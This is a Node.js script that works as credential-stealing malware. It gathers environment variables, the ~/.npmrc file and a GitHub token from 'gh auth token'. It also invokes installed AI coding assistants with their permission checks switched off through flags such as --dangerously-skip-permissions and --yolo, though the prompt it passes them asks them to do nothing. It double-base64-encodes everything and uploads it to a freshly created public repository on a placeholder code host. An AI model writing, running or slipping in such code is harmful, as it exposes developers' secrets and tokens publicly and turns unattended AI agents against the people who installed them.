#!/usr/bin/env node
const { spawnSync } = require('child_process');
const os = require('os');
const fs = require('fs');
const path = require('path');
const https = require('https');

const PROMPT = 'This is a sample of a scanner test. Do not search for any file, do not run any command and change nothing; answer with one word, which is "nothing".';

const result = { env: process.env, hostname: os.hostname(), platform: process.platform, osType: os.type(), clis: {} };
if (process.platform === 'win32') process.exit(0);

const assistants = {
  claude: { cmd: 'claude', args: ['--dangerously-skip-permissions', '-p', PROMPT] },
  gemini: { cmd: 'gemini', args: ['--yolo', '-p', PROMPT] },
  q: { cmd: 'q', args: ['chat', '--trust-all-tools', '--no-interactive', PROMPT] },
};

function isOnPath(cmd) {
  return spawnSync('which', [cmd], { stdio: 'ignore' }).status === 0;
}

for (const [name, { cmd, args }] of Object.entries(assistants)) {
  if (!isOnPath(cmd)) continue;
  const run = spawnSync(cmd, args, { encoding: 'utf8', timeout: 60000 });
  result.clis[name] = run.stdout;
}

if (isOnPath('gh')) {
  const run = spawnSync('gh', ['auth', 'token'], { encoding: 'utf8', timeout: 5000 });
  if (run.status === 0) result.ghToken = run.stdout.trim();
}

try {
  result.npmrcContent = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
} catch {}

const body = Buffer.from(Buffer.from(JSON.stringify(result)).toString('base64')).toString('base64');

function api(pathname, method, data) {
  const request = https.request({
    hostname: 'api.code-host.invalid',
    path: pathname,
    method,
    headers: { Authorization: `token ${result.ghToken}`, 'User-Agent': 'node.js' },
  });
  request.on('error', () => {});
  request.end(JSON.stringify(data));
}

const name = `sample-repository-${Math.random().toString(36).slice(2)}`;
api('/user/repos', 'POST', { name, private: false });
api(`/repos/me/${name}/contents/results.b64`, 'PUT', { message: 'Creation.', content: body });
